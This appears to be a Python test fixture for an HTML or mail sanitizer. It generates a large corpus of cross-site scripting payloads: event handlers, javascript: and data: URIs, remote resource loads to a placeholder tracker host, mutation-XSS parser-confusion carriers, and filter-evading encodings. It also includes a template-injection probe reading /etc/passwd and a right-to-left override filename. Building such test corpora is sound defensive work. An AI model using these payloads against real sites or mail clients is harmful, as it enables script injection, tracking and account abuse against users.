# ruff: noqa: E501
"""What attackers write (S6): HTML put together from parts, odd pieces, and words for names.

Each vector stands in each carrier, and each vector in each spelling.
"""

from itertools import product

SCRIPT = "alert(document.domain)"
REMOTE = "http://tracker.invalid/hit"

# What runs or loads something, if the markup comes alive.
VECTORS = [
    f"<script>{SCRIPT}</script>",
    f"<script src={REMOTE}></script>",
    *(
        f"<{tag} {event}={SCRIPT}>"
        for tag, event in [
            ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"),
            ("details open", "ontoggle"), ("marquee", "onstart"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
            ("frameset", "onload"), ("a tabindex=1 autofocus", "onfocus"), ("p popover", "onbeforetoggle"),
            ("style", "onload"), ("xss style=animation:x", "onanimationstart"), ("div contenteditable", "onbeforeinput"),
        ]
    ),
    *(
        f'<{place}="{where}">x'
        for place in ["iframe src", "embed src", "object data", "a href", "form><button formaction", "math href", "svg><a xlink:href"]
        for where in [f"javascript:{SCRIPT}", f"data:text/html,<script>{SCRIPT}</script>"]
    ),
    *(
        f'<{place}="{REMOTE}">'
        for place in ["img src", "img srcset", "iframe src", "embed src", "object data", "video poster", "track src",
                      "link rel=stylesheet href", "link rel=prefetch href", "body background", "input type=image src",
                      "a ping", "base href", "form action", "frame src", "portal src"]
    ),
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;">',
    f'<meta http-equiv=refresh content="0;url={REMOTE}">',
    f'<p style="background:url({REMOTE})">x',
    f"<style>*{{background:url({REMOTE})}}</style>",
]  # fmt: skip

# What stands around it, so that one parser takes for text what the next takes for markup.
CARRIERS = [
    "<div>{}</div>", "<svg>{}</svg>", "<svg><desc>{}", "<svg><foreignObject>{}", "<math><mtext>{}",
    "<math><mtext><table><mglyph><style><!--</style>{}", "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></p><style><a id=\"</style>{}\">", "<table><tr>{}", "<select><option>{}", "<template>{}</template>",
    "<noscript><p title='</noscript>{}'>", "<noembed><p title='</noembed>{}'>", "<title><p title='</title>{}'>",
    "<textarea><p title='</textarea>{}'>", "<style><p title='</style>{}'>", "<xmp><p title='</xmp>{}'>",
    "<!-- --!>{}-->", "<!-->{}-->", "<![CDATA[{}]]>", "</iframe></template></script>{}", "\">{}", "'>{}",
]  # fmt: skip

# How a tag may be spelt: what a filter of words misses and a browser may still read.
SPELLINGS = [
    str.upper,
    lambda html: html.replace(" ", "/"),
    lambda html: html.replace(" ", "\n\t"),
    lambda html: html.replace(" ", "\x0c"),
    lambda html: html.replace("<", "<<"),
    lambda html: html.replace("<", "\x00<").replace("=", "\x00="),
    lambda html: html.replace("javascript:", "java&#10;script&colon;").replace(
        "http:", "&#104;ttp:"
    ),
    lambda html: html.replace("javascript:", " &#1;JaVa&Tab;ScRiPt:").replace("http://", "\\\\"),
    lambda html: html.replace("script", "scr<script></script>ipt"),
    lambda html: html.replace(">", "", 1),
    lambda html: html.replace("<", "&lt;").replace(">", "&gt;"),
    lambda html: html.replace("<", "＜").replace(">", "＞"),
    lambda html: html.replace("<", "%3C").replace(">", "%3E"),
    lambda html: html.replace("<", "+ADw-").replace(">", "+AD4-"),
]

# What no combination makes.
_ODD = (
    f"""
<scr<script>ipt>{SCRIPT}</scr</script>ipt>
<script/x>{SCRIPT}</script>
<script>{SCRIPT}
<svg><script>{SCRIPT}</script></svg>
<svg><script href="data:,{SCRIPT}"/></svg>
<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{SCRIPT}"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={SCRIPT} /></svg>#x"/></svg>
<svg><foreignObject><iframe src="javascript:{SCRIPT}"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={SCRIPT}></style></svg>
<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">
<svg><image href={REMOTE}></svg>
<svg><set attributeName=onmouseover to={SCRIPT}>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={SCRIPT}>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>
<math><annotation-xml encoding="text/html"><p/><style><img src onerror={SCRIPT}></style></annotation-xml></math>
<math><mi xlink:href="javascript:{SCRIPT}">x</mi></math>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={SCRIPT}>">
<table><td><svg><desc><td></desc></svg><img src=x onerror={SCRIPT}>
<img src=x onerror="{SCRIPT}"
<img src=`x`onerror={SCRIPT}>
<img/src/onerror={SCRIPT}>
<img src=x:x onerror\x0c={SCRIPT}>
<img """
    + f"""\"\"\"><script>{SCRIPT}</script>">
<img src="javascript:{SCRIPT}">
<img dynsrc="javascript:{SCRIPT}">
<img lowsrc={REMOTE}>
<img src=//tracker.invalid/hit>
<img src="\\\\tracker.invalid\\hit">
<img src="/sign-out/">
<img src="data:image/svg+xml,<svg onload={SCRIPT}>">
<image src=x onerror={SCRIPT}>
<input type=image src={REMOTE} onerror={SCRIPT}>
<button formaction="javascript:{SCRIPT}">x</button>
<isindex action="javascript:{SCRIPT}">
<body background={REMOTE}>
<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>
<object type=text/x-scriptlet data={REMOTE}></object>
<applet code=x archive={REMOTE}></applet>
<video><source onerror={SCRIPT}></video>
<meta http-equiv=refresh content="0;url={REMOTE}">
<meta http-equiv=refresh content="0;url=javascript:{SCRIPT}">
<meta charset=utf-7>+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-
<base href={REMOTE}><img src=x>
<base target=_self href="javascript:{SCRIPT}//">
<div style="width:expression({SCRIPT})">x</div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>
<table background={REMOTE}><td background={REMOTE}>x</table>
<a href=x ping={REMOTE}>x</a>
<a href=x onclick={SCRIPT}>x</a>
<a href='x' x="' onmouseover='{SCRIPT}'">x</a>
<p id=x onclick={SCRIPT}>x</p>
<p hx-get="/" hx-trigger=load>x</p>
<p data-hx-get="/" data-hx-trigger=load data-show-mail=x>x</p>
<div contenteditable oninput={SCRIPT}>x</div>
<x onclick={SCRIPT} tabindex=1 id=x autofocus onfocus={SCRIPT}>x
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{SCRIPT}</x:script>
<?xml-stylesheet href="javascript:{SCRIPT}"?>
<?php echo 1 ?><img src=x onerror={SCRIPT}>
<![CDATA[<img src=x onerror={SCRIPT}>]]>
<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->
<!-<img src=x onerror={SCRIPT}>
<img src="cid:x&quot; onerror=&quot;{SCRIPT}">
<img src="cid:../../../sign-out/">
<img src="cid:x" alt="&quot;><script>{SCRIPT}</script>">
<img data-remote-src="javascript:{SCRIPT}">
<img data-remote-src="http://x/&quot; onerror=&quot;{SCRIPT}">
<dialog open><form method=dialog><button formaction="javascript:{SCRIPT}">x</button></form></dialog>
<slot onslotchange={SCRIPT}>x</slot>
<custom-element onclick={SCRIPT}>x</custom-element>
<listing>&lt;img src=x onerror={SCRIPT}&gt;</listing>
<b <script>{SCRIPT}</script>>x</b>
<<SCRIPT>{SCRIPT}//<</SCRIPT>
<a title="`<script>{SCRIPT}</script>`">x</a>
%3Cscript%3E{SCRIPT}%3C/script%3E
&lt;script&gt;{SCRIPT}&lt;/script&gt;
{{{{7*7}}}}{{% include "/etc/passwd" %}}
"""
)

_ODD_LINES = [line for line in _ODD.strip().splitlines() if line]
PAYLOADS = [
    *_ODD_LINES,
    *(carrier.replace("{}", vector) for carrier, vector in product(CARRIERS, VECTORS)),
    *(spelt(vector) for spelt, vector in product(SPELLINGS, VECTORS)),
]


def slices(size: int) -> list[list[str]]:
    """Return all payloads, ``size`` together: unclosed tags of one meet the next."""
    return [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]


# For subjects, names and file names: one line, no mail header may break.
WORDS = [
    f"<script>{SCRIPT}</script>", f'"><img src=x onerror={SCRIPT}>', f"'-{SCRIPT}-'",
    f"</title><script>{SCRIPT}</script>", "{{7*7}}{% raw %}", f"javascript:{SCRIPT}",
    f"<svg/onload={SCRIPT}>", f"</textarea><script>{SCRIPT}</script>",
    f'" autofocus onfocus="{SCRIPT}', f"<img src={REMOTE}>", "\u202egnp.exe",
]  # fmt: skip
